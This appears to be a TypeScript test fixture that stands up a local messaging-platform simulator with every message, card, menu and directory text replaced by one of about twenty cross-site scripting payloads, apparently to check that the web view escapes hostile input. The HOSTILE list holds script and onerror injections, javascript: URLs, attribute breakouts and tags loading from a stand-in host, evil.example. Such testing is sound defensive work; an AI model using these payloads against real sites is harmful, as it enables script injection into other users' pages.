import type { JsonObject } from '../../simulator';
import { controlsOf } from '../../simulator/controls';
import { recordOf } from '../../simulator/json';
import { saying } from '../../simulator/language';
import { buildServer } from '../../simulator/server';
import { State } from '../../simulator/state';
import examples, { moreExamples } from '../../fixtures/officialExamples';

/** What the simulator takes for its own address. */
const ORIGIN = 'http://127.0.0.1:8765';
export const USER = 'mallory';
export const GROUP = 'market';
/** Values that decide which message this is; hostile ones would be refused or shown as plain JSON. */
const KEPT = new Set(['msgtype', 'card_type']);

/** Texts that would run, load or send something, or break the page, if they were taken for more than text. */
export const HOSTILE = [
	'"><img src=x onerror=alert(1)><script>alert(2)</script>',
	"' autofocus onfocus='alert(1)",
	'`-alert(1)-`</textarea></title></select></style><svg/onload=alert(1)>',
	'javascript:alert(1)',
	' jAvAsCrIpT:alert(1)',
	'data:text/html,<script>alert(1)</script>',
	'http://evil.example/"onload="alert(1)',
	'//evil.example/x.png',
	`${ORIGIN}@evil.example/x.png`,
	`${ORIGIN}/simulator/files/" onerror="alert(1)`,
	'<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed">x</a>',
	'<a href="http://evil.example" target="_self" rel="opener">x</a>',
	'[x](javascript:alert(1)) ![x](http://evil.example/x.png) [x](http://e.example/"onclick="alert(1))',
	'<font color="info" onmouseover=alert(1) style="background:url(//evil.example)">x</font><font color="red">y</font>',
	'<div class="gray" id="conversation" data-msgid="1" onclick=alert(1)>x</div>',
	'<iframe src="//evil.example"></iframe><object data="//evil.example"></object><embed src="//evil.example">',
	'<style>@import "//evil.example";</style><link rel=stylesheet href="//evil.example"><base href="//evil.example">',
	'<form action="//evil.example"><input name=user><button formaction="//evil.example">x</button></form>',
	'<meta http-equiv="refresh" content="0;url=//evil.example"><video src="//evil.example" poster="//evil.example">',
	'<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'</li></ol></main><script src="//evil.example"></script>',
];

/** Puts the text in the place of every text, however deep. */
function poisoned(value: unknown, text: string): unknown {
	if (typeof value === 'string') return text;
	if (Array.isArray(value)) return value.map((item) => poisoned(item, text));
	if (typeof value !== 'object' || value === null) return value;
	return Object.fromEntries(
		Object.entries(value).map(([key, inner]) => [
			key,
			KEPT.has(key) ? inner : poisoned(inner, text),
		]),
	);
}

const sends = examples
	.filter(({ name }) => name.startsWith('send.'))
	.map(({ payload }) => payload as JsonObject);
const posts = moreExamples
	.filter(({ name }) => /^(webhook|appchat\.send)\.(?!.*(response|upload))/.test(name))
	.map(({ payload }) => payload as JsonObject);
const updates = examples
	.filter(({ name }) => name.startsWith('update_template_card.'))
	.map(({ payload }) => payload as JsonObject);

/** A simulator of which every message, every update and every text around them is poisoned with one text. */
export interface PoisonedSimulator {
	url: string;
	/** Id of an upload with that text as its name. */
	fileId: string;
	/** How many messages the member has, or the group. */
	count(chatid?: string): number;
	/** Delivers everything once more. */
	deliver(): void;
	close(): Promise<void>;
}

export async function poisonedSimulator(text: string): Promise<PoisonedSimulator> {
	const member = { userid: USER, name: text, alias: text, departments: [1], licensed: true };
	const state = new State({
		corpId: text,
		memberLimitPerMinute: Number.POSITIVE_INFINITY,
		directory: {
			departments: [{ id: 1, name: text, nameEn: text, parentId: 0, order: 1, leaders: [] }],
			members: [member],
			tags: [],
		},
		groups: [{ chatid: GROUP, name: text, owner: USER, users: [USER] }],
		robots: [{ key: text, chatid: GROUP, name: text }],
		apps: [
			{
				agentId: 1,
				secret: text,
				name: text,
				menu: [
					{ name: text, type: 'click', key: text },
					{ name: text, entries: [{ name: text, type: 'view', url: text }] },
				],
			},
		],
	});
	const file = state.storeMedia({
		type: 'file',
		filename: text,
		contentType: text,
		bytes: Buffer.from('<script>'),
	});
	const withMedia = (body: JsonObject): JsonObject =>
		JSON.parse(JSON.stringify(body), (key, value: unknown) =>
			key.endsWith('media_id') ? file.id : value,
		) as JsonObject;
	const members = new Set([member]);
	const deliver = () => {
		for (const send of sends) {
			const body = poisoned(send, text) as JsonObject;
			state.mailbox.deliver(1, body, members, 1);
			state.mailbox.deliver(1, { ...withMedia(body), safe: 1, enable_id_trans: 1 }, members, 1);
		}
		for (const { button, template_card: card } of updates) {
			const { msgid } = state.mailbox.deliver(
				1,
				poisoned(
					sends.find(({ msgtype }) => msgtype === 'template_card'),
					text,
				) as JsonObject,
				members,
				1,
			);
			const update = card
				? { template_card: poisoned(card, text) as JsonObject, translateIds: true }
				: { button: poisoned(button, text) as JsonObject };
			state.mailbox.update(msgid, members, { at: 1, ...update });
		}
		for (const post of posts) {
			const message = poisoned(post, text) as JsonObject;
			for (const whole of [message, withMedia(message)]) {
				const msgtype = String(whole.msgtype);
				state.mailbox.post({
					chatid: GROUP,
					robot: text,
					msgtype,
					message: whole,
					content: recordOf(whole[msgtype]),
					mentioned: [USER, text],
					missed: [text],
					at: 1,
				});
			}
		}
		state.mailbox.say({
			userid: USER,
			agentid: 1,
			msgtype: 'text',
			content: { content: text },
			at: 1,
			own: true,
		});
		state.mailbox.deliver(1, { msgtype: text, [text]: { x: text } }, members, 1);
	};
	deliver();
	const sayings = [saying('sent', { name: text, ms: 1 })];
	state.notices.set(USER, { tone: 'bad', sayings, at: 1 });
	state.savings.set(1, { tone: 'bad', sayings, at: 1 });
	state.receivers.set(1, { url: text, token: text, encodingAesKey: text, corpId: text });
	const server = buildServer(state, controlsOf(state), '', () => ({ url: ORIGIN }));
	const url = await server.listen({ host: '127.0.0.1', port: 0 });
	return {
		url,
		fileId: file.id,
		count: (chatid) =>
			chatid === undefined ? state.mailbox.all.length : state.mailbox.groupInbox(chatid).length,
		deliver,
		close: async () => await server.close(),
	};
}
